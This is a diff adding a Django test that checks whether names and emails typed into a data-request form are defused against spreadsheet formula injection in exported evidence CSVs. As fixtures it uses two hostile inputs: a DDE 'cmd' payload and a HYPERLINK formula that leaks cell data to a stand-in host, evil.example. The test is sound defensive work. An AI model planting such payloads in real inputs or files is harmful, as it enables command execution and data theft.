@@ -10,6 +10,7 @@ import datetime as dt
 import hashlib
 import io
 import json
+import re
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -17,8 +18,10 @@ from typing import Any
 import pytest
 import time_machine
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.test import Client
 
 from dsr.models import Event, OutgoingEmail, Package, Request, StaffMembership
+from dsr.outbox.emails import render_stored
 from dsr.requests import audit, evidence, workflow
 from dsr.requests.timeline import Actor, content_digest, link_hash
 from tests.factories import LATER, STAFF, identified, routed
@@ -179,3 +182,88 @@ def test_the_evidence_lists_what_the_answer_package_gave_the_person_with_its_has
     listed = json.loads(files["answer-package-manifest.json"])
     assert listed[-1] == {"name": "package.zip", "bytes": package.archive.size, "sha256": package.archive_sha256}
     assert {"data.json", "cover-letter.html"} <= {entry["name"] for entry in listed}
+
+
+# --- what the person or their agent typed, in the evidence's CSVs ------------------------------------------
+
+# Both are accepted by the public form: an address valid under RFC 5322, and a name on one line.
+FORMULA_EMAIL = "=cmd|'/Ccalc'!A0+@example.com"
+FORMULA_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+
+
+def link_in(request: Request, kind: str, path: str) -> str:
+    """The signed link of `path` in the request's email of `kind`, as the worker sends it."""
+    body = render_stored(OutgoingEmail.objects.get(request=request, kind=kind)).body_text
+    match = re.search(rf"/{path}/[^/\s]+/", body)
+    assert match, body
+    return match.group(0)
+
+
+def filed_and_confirmed(client: Client, **fields: str) -> Request:
+    """A request filed through the public form of Leadsment and confirmed through the link in its email."""
+    form = {
+        "request_type": "access",
+        "relationship": "account_user",
+        "country": "FI",
+        "state": "",
+        "subject_name": "Alice Virtanen",
+        "website": "",
+        **fields,
+    }
+    response = client.post("/request/leadsment/", form)
+    assert response.status_code == 302, response.content.decode()[:2000]
+    request = Request.objects.get(reference=re.search(r"DSR-\w+", response["Location"]).group(0))  # type: ignore[union-attr]
+    assert client.post(link_in(request, "verify", "verify")).status_code == 302
+    return Request.objects.get(pk=request.pk)
+
+
+def exported(client: Client, request: Request) -> dict[str, bytes]:
+    """The request's evidence ZIP as a staff member downloads it from the request's page, unzipped."""
+    response = client.post(f"/admin/dsr/request/{request.pk}/evidence/")
+    assert response.status_code == 200
+    return unzip(response.content)
+
+
+def csv_cells(files: dict[str, bytes]) -> dict[str, list[list[str]]]:
+    return {name: list(csv.reader(io.StringIO(body.decode()))) for name, body in files.items() if name.endswith(".csv")}
+
+
+def test_what_the_person_typed_is_never_a_formula_in_the_evidence_csvs_and_the_json_keeps_it_exact(
+    settings: Any, tmp_path: Path
+) -> None:
+    settings.MEDIA_ROOT = tmp_path
+    client = Client()
+    person = filed_and_confirmed(client, email=FORMULA_EMAIL)
+    agent = filed_and_confirmed(client, email="agent@example.net", acting_as_agent="on", agent_name=FORMULA_AGENT)
+    permission = SimpleUploadedFile("permission.pdf", b"%PDF-1.4\n", content_type="application/pdf")
+    assert client.post(link_in(agent, "permission_needed", "authority"), {"permission": permission}).status_code == 302
+    lead = logged_in(member("siiri", role=StaffMembership.Role.LEAD))
+
+    person_files, agent_files = (exported(lead, request) for request in (person, agent))
+
+    for files in (person_files, agent_files):
+        sheets = csv_cells(files)
+        assert set(sheets) == {"timeline.csv", "emails.csv"}
+        for name, rows in sheets.items():
+            for row in rows:
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    # The text is all there, for whoever reads it: only a quote in front, which a spreadsheet does not show.
+    (verify,) = [
+        row for row in csv.DictReader(io.StringIO(person_files["emails.csv"].decode())) if row["kind"] == "verify"
+    ]
+    assert verify["to"] == "'" + FORMULA_EMAIL
+    (sent,) = [
+        r
+        for r in csv.DictReader(io.StringIO(agent_files["timeline.csv"].decode()))
+        if r["kind"] == "permission_received"
+    ]
+    assert sent["message"] == f"'{FORMULA_AGENT} sent the person's signed permission: permission.pdf."
+    assert "instead of running it as a formula" in " ".join(person_files["README.txt"].decode().split())
+
+    # The JSON is the exact record: the addresses as written, the event's text as its hash chain covers it.
+    assert {e["to"] for e in json.loads(person_files["emails.json"])} == {FORMULA_EMAIL}
+    (received,) = [e for e in json.loads(agent_files["timeline.json"]) if e["kind"] == "permission_received"]
+    assert received["message"] == f"{FORMULA_AGENT} sent the person's signed permission: permission.pdf."
+    assert content_digest(received["salt"], received["message"], received["data"]) == received["content_digest"]
+    assert audit.verify_request(agent.reference).intact
